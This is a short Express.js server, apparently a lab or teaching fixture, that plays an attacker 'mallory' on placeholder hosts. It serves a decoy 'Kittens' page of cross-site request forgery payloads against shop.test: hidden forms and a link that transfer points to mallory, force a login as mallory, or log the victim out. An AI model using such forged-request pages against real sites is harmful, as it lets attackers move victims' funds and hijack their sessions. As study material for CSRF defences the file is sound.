import express from "express";

const mallory = express();

// It answers as https://evil.test/ and as https://pages.shop.test/
mallory.get("/", (req, res) => {
  res.send(`<!doctype html>
<html lang="en">
<head><meta charset="utf-8"><title>Kittens</title></head>
<body>
<h1>Kittens</h1>
<p>A page on ${req.hostname}.</p>
<form method="post" action="https://shop.test/points">
<input type="hidden" name="to" value="mallory"><input type="hidden" name="amount" value="40">
<button>Claim your kitten</button>
</form>
<p><a href="https://shop.test/gift?to=mallory&amp;amount=30">More kittens</a></p>
<form method="post" action="https://shop.test/login">
<input type="hidden" name="name" value="mallory"><button>Be somebody else</button>
</form>
<form method="post" action="https://shop.test/logout"><button>Be nobody</button></form>
</body>
</html>`);
});

mallory.listen(7666);
